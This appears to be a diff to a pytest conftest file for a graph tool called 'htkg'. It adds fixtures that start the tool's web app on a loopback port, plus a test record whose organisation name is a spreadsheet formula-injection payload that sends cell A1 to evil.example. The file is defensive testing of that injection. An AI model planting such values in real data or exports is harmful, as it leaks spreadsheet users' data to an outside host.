@@ -19,6 +19,12 @@ TESTS = Path(__file__).resolve().parent
 FIXTURES = TESTS / "fixtures"
 SHARED = TESTS.parent.parent / "shared"
 
+# Every command in the suite starts its own engine, as with HTKG_SERVER=off, so
+# that no test leaves a background server behind and each test's store is read
+# as it was opened. The tests of the shared server (tests/test_background.py)
+# turn it on for themselves, with records in a folder of their own.
+os.environ["HTKG_SERVER"] = "off"
+
 
 def shared_path(*parts: str) -> Path:
     """A path under ../shared, or skip the test with the reason it is absent."""
@@ -181,3 +187,68 @@ def report_store(tmp_path_factory) -> str:
 def hostile_report_store(tmp_path_factory) -> str:
     """An embedded store of :func:`hostile_records`."""
     return _report_store(tmp_path_factory, "hostile-report-store", hostile_records())
+
+
+# -- the app's tests (test_app_http.py, test_app_browser.py) ------------------------------------
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")'
+
+
+def app_records() -> list:
+    """The hostile graph, with a body whose name a spreadsheet would run as a formula,
+    working in Nigeria (so it is among the rows of ``country-links -p country=Nigeria``)."""
+    from htkg.graph.records import Edge, Node, provenance
+    src = provenance("registry", "fixture/formula.yaml", 1)
+    return hostile_records() + [
+        Node("Organisation", "formula-trust", {"name": FORMULA_NAME, "kind": "ngo",
+                                                "nation": ["GB-WLS"]}, src),
+        Edge("ACTIVE_IN", "formula-trust", "country-ng", {}, src),
+    ]
+
+
+@pytest.fixture(scope="session")
+def app_store(tmp_path_factory) -> str:
+    """An embedded store of :func:`app_records`."""
+    return _report_store(tmp_path_factory, "app-store", app_records())
+
+
+@contextlib.contextmanager
+def app_serving(db: str, *options: str, env: dict | None = None, cache: Path | None = None):
+    """`htkg app` on ``db`` on a free loopback port, in a process of its own; yields
+    (its address, the process). Stopped on every path: SIGTERM, then SIGKILL."""
+    import threading
+    env = {**os.environ, **({"XDG_CACHE_HOME": str(cache)} if cache else {}), **(env or {})}
+    proc = subprocess.Popen([sys.executable, "-m", "htkg.cli", "app", "--db", str(db),
+                             "--port", "0", *options], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True, env=env)
+    try:
+        line: list[str] = []
+        reader = threading.Thread(target=lambda: line.append(proc.stdout.readline()), daemon=True)
+        reader.start()
+        reader.join(180)
+        if not line or "http://" not in line[0]:
+            proc.kill()
+            pytest.fail(f"htkg app did not start: {line} {proc.stderr.read()[-2000:]}")
+        yield line[0].split("serving the graph at ", 1)[1].split(" ", 1)[0], proc
+    finally:
+        if proc.poll() is None:
+            proc.terminate()
+            try:
+                proc.wait(timeout=30)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                proc.wait(timeout=30)
+        for stream in (proc.stdout, proc.stderr):
+            with contextlib.suppress(Exception):
+                stream.close()
+
+
+@pytest.fixture(scope="session")
+def app_server():
+    """``app_server(db, *options, env=..., cache=...)``: `htkg app` running (:func:`app_serving`)."""
+    return app_serving
+
+
+@pytest.fixture(scope="session")
+def formula_name() -> str:
+    """The name in :func:`app_records` that a spreadsheet would run as a formula."""
+    return FORMULA_NAME
